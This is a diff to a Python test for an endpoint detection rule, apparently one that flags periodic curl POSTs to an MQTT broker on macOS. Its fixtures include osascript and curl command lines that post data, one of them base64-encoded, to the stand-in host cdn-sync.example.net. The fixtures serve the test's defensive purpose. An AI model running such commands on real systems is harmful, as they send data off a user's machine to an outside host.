@@ -141,16 +141,21 @@ def test_curl_posting_to_a_broker_uri_raises_one_an0004(cfg):
     b = EndpointBatchBuilder()
     for i, t in enumerate(beats(180, 6, 3, jitter=0.4)):
         ts = int((T0 + t) * NS)
+        # osascript names the same broker on its command line: one alert, on curl, which connected
+        b.add(ts - NS, PROCESS_START, MAC, "macos", host="mbp", pid=400 + i, executable="/usr/bin/osascript",
+              command_line='osascript -e \'do shell script "curl -X POST https://cdn-sync.example.net/mqtt -d x"\'')
         b.add(ts, PROCESS_START, MAC, "macos", host="mbp", pid=500 + i, executable="/usr/bin/curl", user="carol",
               command_line="curl -s -X POST https://cdn-sync.example.net/mqtt -d aGVsbG8gd29ybGQgZnJvbSBtYWM=")
         b.add(ts + NS // 10, NETWORK_CONNECT, MAC, "macos", host="mbp", pid=500 + i, executable="/usr/bin/curl",
-              src_ip="10.1.1.30", src_port=50000 + i, dst_ip="192.0.2.44", dst_port=443, proto=6)
+              src_ip="10.1.1.30", src_port=50000 + i, dst_ip="192.0.2.44", dst_port=443, proto=6,
+              domain="cdn-sync.example.net")
     _, alerts = evaluate(cfg, b)
     assert [a.rule_id for a in alerts] == ["AN0004"]
     d = alerts[0].to_dict()
     assert d["process"]["name"] == "curl" and d["destination"]["ip"] == "192.0.2.44"
     assert d["destination"]["domain"] == "cdn-sync.example.net" and d["network"]["protocol"] == "mqtt-over-websocket"
     assert {"URIPathRegex", "AppContextFilter", "TimeWindow"} <= set(d["brokerwatch"]["evidence"]["fired"])
+    assert d["brokerwatch"]["evidence"]["broker_named_by"] == ["osascript"]
 
 
 def test_alerts_are_revised_not_repeated(cfg):
